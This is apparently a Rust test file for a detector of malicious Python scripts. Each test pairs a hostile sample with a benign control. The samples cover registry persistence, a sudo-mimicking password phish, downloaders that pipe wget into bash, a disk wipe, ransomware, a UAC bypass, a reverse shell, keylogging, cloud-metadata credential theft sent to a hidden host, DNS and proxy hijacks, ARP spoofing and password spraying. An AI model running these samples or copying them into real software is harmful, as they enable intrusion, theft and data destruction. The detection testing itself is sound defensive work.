//! Behaviour tests for the seventeenth round (what the held-out misses and
//! false positives showed: modules loaded by helpers of the script's own,
//! functions kept in tables or picked by a test, a parameter defaulting to
//! the script's own function, Windows process creation through ctypes,
//! hosts entries pointing at a hidden address, hook scripts kept as
//! f-string templates, every listed disk overwritten; and, the other way,
//! sudo asked only whether it would prompt, a login page's answer, an
//! argument parser taken for a prompt, a salt written only when missing),
//! spelled unlike the corpus, each with a control. Every malicious case is
//! misjudged by the analyser at ec76111; for the four spared behaviours it
//! is the benign case that ec76111 flags.

use super::behaviour_tests::{rules, run};
use super::Verdict;

/// A registry module imported by a loader of the script's own (its name
/// reversed, or handed in pieces) is the registry module: its Run key
/// written is persistence (ec76111: HIGH, the import only).
#[test]
fn run_key_written_through_a_module_loader_of_the_scripts_own() {
    let reversed = r#"import importlib, sys
RUN = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
def registry():
    return importlib.import_module("".join(reversed("gerniw")))
def pin(exe):
    hive = registry()
    k = hive.CreateKeyEx(hive.HKEY_CURRENT_USER, RUN, 0, hive.KEY_WRITE)
    hive.SetValueEx(k, "PrinterAssist", 0, hive.REG_SZ, exe)
pin(sys.executable + " " + sys.argv[0])
"#;
    let a = run(reversed);
    assert!(rules(&a).contains(&"MB906"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let pieces = r#"import importlib, base64, sys
def load(mod_name):
    return importlib.import_module(mod_name)
def where():
    return base64.b64decode("U29mdHdhcmVcTWljcm9zb2Z0XFdpbmRvd3NcQ3VycmVudFZlcnNpb25cUnVu").decode()
reg = load("win" + "reg")
calls = {"mk": getattr(reg, "CreateKey"), "put": getattr(reg, "SetValueEx")}
k = calls["mk"](reg.HKEY_CURRENT_USER, where())
calls["put"](k, "AudioSync", 0, reg.REG_SZ, sys.argv[0])
"#;
    let a = run(pieces);
    assert!(rules(&a).contains(&"MB906"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// The same loader reading a value (the installed version) persists
/// nothing (the import by a computed name stays MB411).
#[test]
fn registry_read_through_a_module_loader_is_no_persistence() {
    let read = r#"import importlib
def load(mod_name):
    return importlib.import_module(mod_name)
reg = load("win" + "reg")
k = reg.OpenKey(reg.HKEY_LOCAL_MACHINE, "SOFTWARE\\Vendor\\Tool")
print(reg.QueryValueEx(k, "Version")[0])
"#;
    let a = run(read);
    assert!(!rules(&a).contains(&"MB906"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::Blocked, "{:?}", a.findings);
}

/// A password prompt in sudo's words, asked by one of two functions a
/// test picks, and its answer sent away is phishing (ec76111: HIGH, the
/// sudo call only).
#[test]
fn prompt_answer_from_a_function_picked_by_a_test_is_followed() {
    let phish = r#"import getpass, sys, requests
def ask_tty(who):
    return getpass.getpass(f"[sudo] password for {who}: ")
def ask_gui(who):
    return input(f"[sudo] password for {who}: ")
def main():
    who = getpass.getuser()
    ask = ask_gui if sys.stdin.isatty() is False else ask_tty
    secret = ask(who)
    requests.post("https://collect.example.net/p", json={"w": who, "s": secret})
main()
"#;
    let a = run(phish);
    assert!(rules(&a).contains(&"MB946"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// A tool asking for its own service's token the same way, and sending
/// it only to that service, imitates nothing.
#[test]
fn own_token_from_a_function_picked_by_a_test_is_no_phishing() {
    let own = r#"import getpass, sys, requests
def ask_tty():
    return getpass.getpass("API token for the build dashboard: ")
def ask_env():
    return sys.argv[1]
ask = ask_env if len(sys.argv) > 1 else ask_tty
token = ask()
requests.get("https://dash.example.net/api/builds", headers={"Authorization": token})
"#;
    let a = run(own);
    assert!(!rules(&a).contains(&"MB946"), "{:?}", a.findings);
}

/// A program saved from a download and started through a parameter
/// defaulting to the script's own launcher, or through CreateProcessW, is
/// a dropper (ec76111: MEDIUM).
#[test]
fn download_run_by_a_default_launcher_or_create_process() {
    let default = r#"import subprocess, tempfile, os, urllib.request
def start(path):
    return subprocess.Popen([path], creationflags=0x08000000)
def deploy(url, runner=start):
    data = urllib.request.urlopen(url).read()
    target = os.path.join(tempfile.gettempdir(), "helper.exe")
    with open(target, "wb") as out:
        out.write(data)
    runner(target)
deploy("http://files.example.org/h.bin")
"#;
    let a = run(default);
    assert!(rules(&a).contains(&"MB915"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
    let native = r#"import ctypes, os, tempfile, requests
blob = requests.get("https://cdn.example.org/agent.bin").content
exe = os.path.join(tempfile.gettempdir(), "agent.exe")
open(exe, "wb").write(blob)
ctypes.windll.kernel32.CreateProcessW(exe, None, None, None, False, 0, None, None, None, None)
"#;
    let a = run(native);
    assert!(rules(&a).contains(&"MB915"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// The same launcher starting a program the script did not download (the
/// user's editor) drops nothing.
#[test]
fn default_launcher_of_an_installed_program_is_no_dropper() {
    let editor = r#"import subprocess, urllib.request
def start(path):
    return subprocess.Popen([path])
def open_notes(fetch=urllib.request.urlopen, runner=start):
    print(fetch("https://notes.example.org/today").read()[:80])
    runner("C:\\Program Files\\Notepad++\\notepad++.exe")
open_notes()
"#;
    let a = run(editor);
    assert!(!rules(&a).contains(&"MB915"), "{:?}", a.findings);
}

/// A hosts file given entries for an address the script spells only in
/// base64 sends those names to a hidden host (ec76111: HIGH, a system
/// path written).
#[test]
fn hosts_entries_for_a_hidden_address_are_a_hijack() {
    let hidden = r#"import base64
TARGET = base64.b64decode("MTk4LjUxLjEwMC4yMw==").decode()
NAMES = ["portal.mybank.test", "updates.antivirus.test"]
with open("/etc/hosts", "a") as h:
    for n in NAMES:
        h.write(f"{TARGET} {n}\n")
"#;
    let a = run(hidden);
    assert!(rules(&a).contains(&"MB947"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// Blocking names by pointing them at 0.0.0.0, every address in sight,
/// is a blocklist.
#[test]
fn hosts_blocklist_to_the_null_address_is_no_hijack() {
    let block = r#"import base64
NAMES = ["ads.tracker.test", base64.b64decode("cGl4ZWwudHJhY2tlci50ZXN0").decode()]
with open("/etc/hosts", "a") as h:
    for n in NAMES:
        h.write(f"0.0.0.0 {n}\n")
"#;
    let a = run(block);
    assert!(!rules(&a).contains(&"MB947"), "{:?}", a.findings);
}

/// A hook script kept as an f-string template that pipes a download into
/// a shell is judged by its command line (ec76111: HIGH, a system path).
#[test]
fn shell_template_piping_a_download_into_a_shell() {
    let hook = r##"from pathlib import Path
def render(endpoint):
    return f"""
#!/bin/bash
wget -q -O - {endpoint}/stage2 | bash
"""
Path("/etc/kernel/postinst.d/zz-refresh").write_text(render("http://203.0.113.9"))
"##;
    let a = run(hook);
    assert!(rules(&a).contains(&"MB908"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// A template that only downloads a file to keep it runs nothing.
#[test]
fn shell_template_saving_a_download_runs_nothing() {
    let save = r##"from pathlib import Path
def render(endpoint):
    return f"""#!/bin/sh
curl -fsS -o /var/cache/motd.txt {endpoint}/motd
"""
Path("/usr/local/bin/refresh-motd").write_text(render("https://motd.example.org"))
"##;
    let a = run(save);
    assert!(!rules(&a).contains(&"MB908"), "{:?}", a.findings);
}

/// Every device the kernel lists in /sys/block opened for writing is
/// every disk overwritten (ec76111: LOW).
#[test]
fn devices_listed_from_sys_block_written() {
    let wipe = r#"import os
def disks():
    return [d for d in os.listdir("/sys/class/block") if not d.startswith("loop")]
for d in disks():
    with open("/dev/" + d, "r+b") as dev:
        dev.write(b"\0" * 4096)
"#;
    let a = run(wipe);
    assert!(rules(&a).contains(&"MB907"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// Tuning the devices' queues under /sys/block writes no disk.
#[test]
fn queue_settings_under_sys_block_are_no_wipe() {
    let tune = r#"import os
for d in os.listdir("/sys/block"):
    with open(os.path.join("/sys/block", d, "queue", "read_ahead_kb"), "w") as f:
        f.write("512")
"#;
    let a = run(tune);
    assert!(!rules(&a).contains(&"MB907"), "{:?}", a.findings);
}

/// `sudo -n true` run alone asks whether sudo would prompt, and gains
/// nothing (ec76111: HIGH); chained in a shell line it still counts.
#[test]
fn sudo_probe_alone_is_no_privilege_use() {
    let probe = r#"import subprocess
ok = subprocess.call(["sudo", "-n", "true"], stderr=subprocess.DEVNULL) == 0
print("passwordless sudo:", ok)
"#;
    let a = run(probe);
    assert!(!rules(&a).contains(&"MB204"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
    let chained = r#"import os
os.system("sudo -n true && sudo -n cp /tmp/x /usr/local/bin/x")
"#;
    let a = run(chained);
    assert!(rules(&a).contains(&"MB204"), "{:?}", a.findings);
    let piped = r#"import subprocess
subprocess.run(["sudo", "-S", "-v"], input="hunter2\n", text=True)
"#;
    let a = run(piped);
    assert!(rules(&a).contains(&"MB204"), "{:?}", a.findings);
}

/// A login page answering the client that posted (the page written to
/// `self.wfile`) harvests nothing (ec76111: BLOCKED); one writing what
/// was posted to a file still does.
#[test]
fn login_page_answering_the_client_is_no_harvest() {
    let answer = r#"from http.server import BaseHTTPRequestHandler, HTTPServer
from urllib.parse import parse_qs
PAGE = '<form method=post><input name=user><input type=password name=password></form>'
class H(BaseHTTPRequestHandler):
    def do_POST(self):
        form = parse_qs(self.rfile.read(int(self.headers["Content-Length"])).decode())
        user = form.get("user", [""])[0]
        self.send_response(200)
        self.end_headers()
        self.wfile.write(("hello " + user + PAGE).encode())
HTTPServer(("127.0.0.1", 8081), H).serve_forever()
"#;
    let a = run(answer);
    assert!(!rules(&a).contains(&"MB946"), "{:?}", a.findings);
    let keep = answer.replace(
        "        self.wfile.write(",
        "        open(\"seen.txt\", \"a\").write(str(form))\n        self.wfile.write(",
    );
    let a = run(&keep);
    assert!(rules(&a).contains(&"MB946"), "{:?}", a.findings);
}

/// An argument parser is no prompt, even in a script whose literals name
/// PyPI (ec76111: BLOCKED); a prompt in PyPI's name still is one.
#[test]
fn argument_parser_is_no_imitated_prompt() {
    let cli = r#"import argparse, sys, urllib.request
INDEX = "https://pypi.example.org/simple/"
ap = argparse.ArgumentParser()
ap.add_argument("package")
args = ap.parse_args(sys.argv[1:])
urllib.request.urlopen(INDEX + args.package + "/")
"#;
    let a = run(cli);
    assert!(!rules(&a).contains(&"MB946"), "{:?}", a.findings);
    let prompt = r#"import getpass, urllib.request
pw = getpass.getpass("PyPI password: ")
urllib.request.urlopen("https://upload.example.org/", data=pw.encode())
"#;
    let a = run(prompt);
    assert!(rules(&a).contains(&"MB946"), "{:?}", a.findings);
}

/// Random bytes written only when the file is missing (a key or salt
/// made once) destroy nothing (ec76111: BLOCKED); files found by a walk
/// overwritten with random bytes still are corrupted.
#[test]
fn random_file_made_only_when_missing_is_no_corruption() {
    let salt = r#"import os, sys
for root, dirs, files in os.walk(sys.argv[1]):
    key = os.path.join(root, ".key")
    if not os.path.isfile(key):
        with open(key, "wb") as f:
            f.write(os.urandom(32))
    print(open(key, "rb").read().hex())
"#;
    let a = run(salt);
    assert!(!rules(&a).contains(&"MB953"), "{:?}", a.findings);
    let spoil = r#"import os, sys
for root, dirs, files in os.walk(sys.argv[1]):
    for name in files:
        p = os.path.join(root, name)
        size = len(open(p, "rb").read())
        with open(p, "wb") as f:
            f.write(os.urandom(size))
"#;
    let a = run(spoil);
    assert!(rules(&a).contains(&"MB953"), "{:?}", a.findings);
}

/// Files renamed across a walk, beside a note that they are encrypted and
/// a wallet to pay for the key, are ransomware even when the encryption
/// is out of sight (ec76111: LOW).
#[test]
fn ransom_note_beside_renamed_files() {
    let ransom = r#"import os, pathlib
NOTE = ("Every document here was encrypted. To recover your data, pay 0.1 BTC "
        "to bc1qexampleexampleexample and send the receipt.")
def seal(p):
    os.replace(p, str(p) + ".sealed")
for f in pathlib.Path.home().rglob("*.pdf"):
    seal(f)
    (f.parent / "READ_ME.txt").write_text(NOTE)
"#;
    let a = run(ransom);
    assert!(rules(&a).contains(&"MB966"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// A folder locker leaving its owner a reminder of how to unlock the
/// files demands nothing.
#[test]
fn unlock_reminder_of_a_folder_locker_is_no_ransom_note() {
    let locker = r#"import os, sys
HINT = "The files in this folder are encrypted. Run `locker unlock` with your passphrase to get them back."
for name in os.listdir(sys.argv[1]):
    os.rename(os.path.join(sys.argv[1], name), os.path.join(sys.argv[1], name + ".locked"))
open(os.path.join(sys.argv[1], "HOW_TO_UNLOCK.txt"), "w").write(HINT)
"#;
    let a = run(locker);
    assert!(!rules(&a).contains(&"MB966"), "{:?}", a.findings);
}

/// A class keeping the ms-settings open command's key, decoded by a
/// one-parameter helper, in `self` and writing it is a UAC bypass
/// (ec76111: MEDIUM).
#[test]
fn uac_key_decoded_by_a_helper_and_kept_on_self() {
    let shim = r#"import winreg, codecs
unrot = lambda v: codecs.decode(v, "rot13")
class Elevator:
    def __init__(self):
        self.where = unrot("Fbsgjner\\Pynffrf\\zf-frggvatf\\Furyy\\Bcra\\pbzznaq")
    def arm(self, cmd):
        k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, self.where)
        winreg.SetValueEx(k, None, 0, winreg.REG_SZ, cmd)
        winreg.SetValueEx(k, "DelegateExecute", 0, winreg.REG_SZ, "")
Elevator().arm("cmd.exe /c whoami > C:\\Users\\Public\\o.txt")
"#;
    let a = run(shim);
    assert!(rules(&a).contains(&"MB957"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// The same helper decoding a file type's own handler key sets an
/// ordinary file association.
#[test]
fn file_type_handler_decoded_by_a_helper_is_no_uac_bypass() {
    let assoc = r#"import winreg, codecs
unrot = lambda v: codecs.decode(v, "rot13")
class Assoc:
    def __init__(self):
        self.where = unrot("Fbsgjner\\Pynffrf\\.zlybt\\Furyy\\Bcra\\pbzznaq")
    def set(self, cmd):
        k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, self.where)
        winreg.SetValueEx(k, None, 0, winreg.REG_SZ, cmd)
Assoc().set("notepad.exe %1")
"#;
    let a = run(assoc);
    assert!(!rules(&a).contains(&"MB957"), "{:?}", a.findings);
}

/// Lines cut from a receive buffer that each cut rebinds carry the
/// network data into the command they run (ec76111: MEDIUM).
#[test]
fn commands_cut_from_a_rebound_receive_buffer() {
    let agent = r#"import socket, subprocess
conn = socket.create_connection(("198.51.100.40", 8443))
pending = b""
while True:
    pending = pending + conn.recv(1024)
    while b";" in pending:
        cmd, pending = pending.split(b";", 1)
        out = subprocess.check_output(cmd.decode(), shell=True)
        conn.sendall(out)
"#;
    let a = run(agent);
    assert!(rules(&a).contains(&"MB913"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// The same buffer cut into log lines that are only printed runs
/// nothing.
#[test]
fn lines_cut_from_a_receive_buffer_and_printed_run_nothing() {
    let tail = r#"import socket
conn = socket.create_connection(("logs.example.org", 514))
pending = b""
while True:
    pending = pending + conn.recv(1024)
    while b"\n" in pending:
        line, pending = pending.split(b"\n", 1)
        print(line.decode())
"#;
    let a = run(tail);
    assert!(!rules(&a).contains(&"MB913"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

/// A loop script split over a plain shebang literal and an f-string,
/// piping a download into `/bin/sh` by path, is download and execute
/// (ec76111: LOW).
#[test]
fn split_template_piping_into_a_shell_by_path() {
    let split = r##"from pathlib import Path
SRC = bytes.fromhex("68747470733a2f2f6578616d706c652e6f72672f72").decode()
hook = Path.home() / ".cache" / ".sync"
hook.write_text("#!/bin/bash\n" f"for i in 1 2 3; do wget -qO- {SRC} | /bin/bash; done\n")
"##;
    let a = run(split);
    assert!(rules(&a).contains(&"MB908"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// The same split template piping a local file into a pager runs no
/// download.
#[test]
fn split_template_paging_a_local_file_is_no_download() {
    let pager = r##"from pathlib import Path
LOG = "/var/log/app.log"
hook = Path.home() / ".cache" / "show"
hook.write_text("#!/bin/bash\n" f"tail -n 50 {LOG} | less\n")
"##;
    let a = run(pager);
    assert!(!rules(&a).contains(&"MB908"), "{:?}", a.findings);
}

/// Shell start-up files given an outside proxy with certificate checks
/// switched off hand every tool's encrypted traffic to that proxy
/// (ec76111: LOW, the files written being chosen on the command line).
#[test]
fn outside_proxy_with_certificate_checks_off() {
    let mitm = r#"import sys
from pathlib import Path
LINES = ["export https_proxy=http://45.137.21.9:8080", "export NODE_TLS_REJECT_UNAUTHORIZED=0"]
for rc in sys.argv[1:]:
    with open(Path.home() / rc, "a") as f:
        f.write("\n".join(LINES) + "\n")
"#;
    let a = run(mitm);
    assert!(rules(&a).contains(&"MB947"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// The office proxy on the local network, certificate checks kept, is
/// a proxy setting.
#[test]
fn local_proxy_with_certificate_checks_kept_is_no_hijack() {
    let office = r#"import sys
from pathlib import Path
LINES = ["export https_proxy=http://10.0.0.5:3128", "export REQUESTS_CA_BUNDLE=/etc/ssl/certs/ca-certificates.crt"]
for rc in sys.argv[1:]:
    with open(Path.home() / rc, "a") as f:
        f.write("\n".join(LINES) + "\n")
"#;
    let a = run(office);
    assert!(!rules(&a).contains(&"MB947"), "{:?}", a.findings);
}

/// The resolver set to an outside address spelled as numbers, through a
/// quiet helper and a default list, sends every name lookup there
/// (ec76111: LOW).
#[test]
fn resolver_set_to_an_outside_address_through_a_helper() {
    let dns = r#"import subprocess
PICKS = [".".join(map(str, (45, 95, 11, 7)))]
def quiet(argv):
    return subprocess.run(argv, capture_output=True)
def apply(service, servers=PICKS):
    quiet(["networksetup", "-setdnsservers", service, "%s" % servers[0]])
for svc in ("Wi-Fi", "Ethernet"):
    apply(svc)
"#;
    let a = run(dns);
    assert!(rules(&a).contains(&"MB947"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// The same helper setting a well-known public resolver, or reading the
/// servers, hijacks nothing.
#[test]
fn resolver_set_to_a_public_one_is_no_hijack() {
    let dns = r#"import subprocess
def quiet(argv):
    return subprocess.run(argv, capture_output=True)
quiet(["networksetup", "-getdnsservers", "Wi-Fi"])
quiet(["networksetup", "-setdnsservers", "Wi-Fi", "1.1.1.1", "9.9.9.9"])
"#;
    let a = run(dns);
    assert!(!rules(&a).contains(&"MB947"), "{:?}", a.findings);
}

/// Keys polled in a loop and saved to a file the script then hides is a
/// keylogger keeping its log out of sight (ec76111: HIGH).
#[test]
fn keystrokes_kept_in_a_hidden_file() {
    let hidden = r#"import ctypes, os, time
user32 = ctypes.windll.user32
LOG = os.path.join(os.environ["APPDATA"], "kb.dat")
while True:
    for code in range(8, 255):
        if user32.GetAsyncKeyState(code) & 1:
            with open(LOG, "a") as out:
                out.write(chr(code))
    ctypes.windll.kernel32.SetFileAttributesW(LOG, 2)
    time.sleep(0.01)
"#;
    let a = run(hidden);
    assert!(rules(&a).contains(&"MB940"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// The same polling that keeps its counts in a file left visible (a
/// typing-speed meter) is MB212 for review, not blocked.
#[test]
fn keystrokes_counted_into_a_visible_file_are_not_blocked() {
    let meter = r#"import ctypes, time
user32 = ctypes.windll.user32
hits = 0
while True:
    for code in range(8, 255):
        if user32.GetAsyncKeyState(code) & 1:
            hits += 1
    with open("typing_rate.txt", "w") as out:
        out.write(str(hits))
    ctypes.windll.kernel32.SetFileAttributesW("typing_rate.txt", 0x80)
    time.sleep(0.01)
"#;
    let a = run(meter);
    assert!(!rules(&a).contains(&"MB940"), "{:?}", a.findings);
    assert!(a.verdict < Verdict::Blocked, "{:?}", a.findings);
}

/// Role keys read from the metadata service and posted to an address kept
/// in base64 leave for a destination the reader is not shown (ec76111:
/// HIGH, the metadata service asked).
#[test]
fn metadata_credentials_sent_to_a_hidden_host() {
    let steal = r#"import base64, requests
MD = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
SINK = base64.b64decode("aHR0cHM6Ly9hdWRpdC5leGFtcGxlLm5ldC9r").decode()
role = requests.get(MD, timeout=2).text.strip()
keys = requests.get(MD + role, timeout=2).json()
requests.post(SINK, json={"role": role, "keys": keys}, timeout=5)
"#;
    let a = run(steal);
    assert!(rules(&a).contains(&"MB967"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// The same credentials used to sign a request to the service the script
/// names is the instance's own access (MB206, shown for review).
#[test]
fn metadata_credentials_used_with_a_named_service_are_not_hidden() {
    let own = r#"import requests
MD = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
role = requests.get(MD, timeout=2).text.strip()
keys = requests.get(MD + role, timeout=2).json()
requests.post("https://inventory.example.net/api/instances", json={"role": role, "expires": keys["Expiration"]}, timeout=5)
"#;
    let a = run(own);
    assert!(!rules(&a).contains(&"MB967"), "{:?}", a.findings);
}

/// ARP frames built by hand on a raw packet socket while forwarding is
/// switched on put this machine between the LAN and its gateway
/// (ec76111: HIGH, a raw socket and a system path).
#[test]
fn raw_arp_frames_with_forwarding_on() {
    let mitm = r#"import socket, struct, subprocess, time
subprocess.run(["sysctl", "-w", "net.ipv4.ip_forward=1"])
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806))
s.bind(("eth0", 0))
frame = b"\xff" * 6 + b"\x02" * 6 + struct.pack("!H", 0x0806) + b"\x00" * 28
while True:
    s.send(frame)
    time.sleep(2)
"#;
    let a = run(mitm);
    assert!(rules(&a).contains(&"MB947"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// An ARP scanner on the same socket, forwarding left alone, only asks
/// who is there.
#[test]
fn raw_arp_scan_without_forwarding_is_no_hijack() {
    let scan = r#"import socket
ETH_P_ARP = 0x0806
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ARP))
s.bind(("eth0", 0))
s.send(b"\xff" * 6 + b"\x02" * 6 + b"\x08\x06" + b"\x00" * 28)
print(s.recv(64).hex())
"#;
    let a = run(scan);
    assert!(!rules(&a).contains(&"MB947"), "{:?}", a.findings);
}

/// Default passwords typed one by one into a raw connection to every
/// host of a range is password guessing (ec76111: MEDIUM).
#[test]
fn passwords_typed_into_a_raw_connection_in_a_loop() {
    let spray = r#"import socket
PAIRS = [("admin", "1234"), ("support", "support"), ("root", "toor")]
def attempt(host, name, password):
    c = socket.create_connection((host, 110), timeout=3)
    c.sendall(b"USER " + name.encode() + b"\r\n")
    c.sendall(b"PASS " + password.encode() + b"\r\n")
    return c.recv(64).startswith(b"+OK")
for last in range(1, 255):
    for name, password in PAIRS:
        attempt(f"10.0.0.{last}", name, password)
"#;
    let a = run(spray);
    assert!(rules(&a).contains(&"MB925"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// One login with the password the user typed, over the same raw
/// connection, guesses nothing.
#[test]
fn one_typed_password_over_a_raw_connection_is_no_guessing() {
    let mail = r#"import getpass, socket
password = getpass.getpass("Mailbox password: ")
c = socket.create_connection(("mail.example.org", 110), timeout=3)
c.sendall(b"USER me\r\n")
c.sendall(b"PASS " + password.encode() + b"\r\n")
print(c.recv(64))
"#;
    let a = run(mail);
    assert!(!rules(&a).contains(&"MB925"), "{:?}", a.findings);
}

/// A decoder of the script's own folded inside a parameter's default
/// (the substituted parameter's cell asked while it is being set) must
/// not stop the assessment.
#[test]
fn decoder_in_a_parameter_default_is_folded_without_stopping() {
    let nested = r#"import os
_up = lambda s: s.upper()
def greet(cmd=_up("echo hello")):
    os.system(cmd)
greet()
"#;
    let a = run(nested);
    assert!(a.verdict <= Verdict::High, "{:?}", a.findings);
}

/// A shell named by a parameter every caller fills with the same decoded
/// value, fed lines from a connection, is a shell a remote party types
/// into (ec76111: MEDIUM).
#[test]
fn shell_named_by_a_parameter_fed_from_a_connection() {
    let relay = r#"import asyncio, base64
class Link:
    def __init__(self, program):
        self.program = program
    async def go(self):
        reader, writer = await asyncio.open_connection("198.51.100.77", 443)
        self.proc = await asyncio.create_subprocess_exec(
            self.program, stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE)
        while True:
            self.proc.stdin.write(await reader.readline())
asyncio.run(Link(base64.b64decode("cG93ZXJzaGVsbC5leGU=").decode()).go())
"#;
    let a = run(relay);
    assert!(rules(&a).contains(&"MB901"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::Blocked);
}

/// The same relay feeding a compressor, not a shell, runs no commands.
#[test]
fn compressor_fed_from_a_connection_is_no_shell() {
    let relay = r#"import asyncio, base64
class Link:
    def __init__(self, program):
        self.program = program
    async def go(self):
        reader, writer = await asyncio.open_connection("198.51.100.77", 443)
        self.proc = await asyncio.create_subprocess_exec(
            self.program, "-c", stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE)
        while True:
            self.proc.stdin.write(await reader.readline())
asyncio.run(Link(base64.b64decode("Z3ppcA==").decode()).go())
"#;
    let a = run(relay);
    assert!(!rules(&a).contains(&"MB901"), "{:?}", a.findings);
}
